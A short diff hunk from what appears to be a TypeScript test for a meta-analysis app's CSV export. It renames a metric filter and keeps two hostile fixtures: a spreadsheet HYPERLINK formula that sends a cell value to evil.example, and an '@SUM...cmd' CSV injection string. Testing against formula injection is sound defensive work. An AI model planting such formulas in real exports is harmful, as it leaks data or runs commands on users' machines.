@@ -6,7 +6,7 @@ import { pool } from '../../shared/stats/pool.js';
 import { createTestApp, resetDb, signIn, type Agent, type TestApp } from '../support/test-app.js';
 import { settleInventedReference, settleInventedSet } from './syntheses-fixtures.js';
 
-const body = { filters: { manipulation: 'luminance', outcome: 'duration_distortion', metric: 'hedges_g' }, method: 'DL', hksj: false, dependence: { mode: 'aggregate', r: 0.5 } };
+const body = { filters: { manipulation: 'luminance', outcome: 'duration_distortion', metric: 'g_s' }, method: 'DL', hksj: false, dependence: { mode: 'aggregate', r: 0.5 } };
 const HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Open the data")';
 const HOSTILE_AUTHOR = '@SUM(1+1)*cmd';
 const csvRows = (text: string) => Papa.parse<Record<string, string>>(text, { header: true, skipEmptyLines: true }).data;
